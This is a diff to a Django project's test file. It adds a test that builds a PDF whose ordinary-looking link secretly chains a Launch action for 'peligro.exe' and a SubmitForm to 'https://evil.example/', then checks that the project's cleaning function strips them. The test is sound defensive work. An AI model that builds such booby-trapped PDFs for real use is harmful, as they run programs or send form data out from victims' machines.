@@ -1,8 +1,10 @@
 """Attacks on the desk's pages, each kept as the sentence that must stay true."""
 
+import io
 from collections.abc import Callable
 from datetime import timedelta
 
+import pikepdf
 import pytest
 from django.core import mail
 from django.test import Client
@@ -16,6 +18,7 @@ from amparo.foundations.institutions.models import Unit
 from amparo.foundations.letterbox.filings import Letter, file_request
 from amparo.foundations.letterbox.folders import STRANGER
 from amparo.foundations.letterbox.queries import visit_by_phrase
+from amparo.foundations.letterbox.renditions import cleaned
 from amparo.foundations.letterbox.services import exclude
 from tests.people import MONDAY
 
@@ -108,6 +111,33 @@ def test_no_mail_wakes_who_must_not_know(
     file_request(guarded, by=STRANGER, at=MONDAY)
     alert_unopened(by=SYSTEM, at=MONDAY + LONG_AGO)
     assert {to for message in mail.outbox for to in message.to} == {"rosa@example.org"}
+
+
+# Files that do something
+
+
+def test_nothing_dangerous_hides_behind_a_harmless_link_of_a_document() -> None:
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    page = pdf.pages[0]
+    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="peligro.exe")
+    send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")
+    turn = pikepdf.Dictionary(
+        S=pikepdf.Name.GoTo, D=[page.obj, pikepdf.Name.Fit], Next=pikepdf.Array([launch, send])
+    )
+    link = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=pdf.make_indirect(turn)
+    )
+    page.Annots = pikepdf.Array([link])
+    out = io.BytesIO()
+    pdf.save(out)
+    copy = pikepdf.open(io.BytesIO(cleaned("pdf", out.getvalue()).content))
+    link = copy.pages[0].Annots[0]
+    assert str(link.A.S) == "/GoTo"
+    assert "/Next" not in link.A
+    said = b"".join(one.unparse(resolved=True) for one in copy.objects)
+    assert b"peligro" not in said
+    assert b"evil" not in said
 
 
 # The flooder and the liar
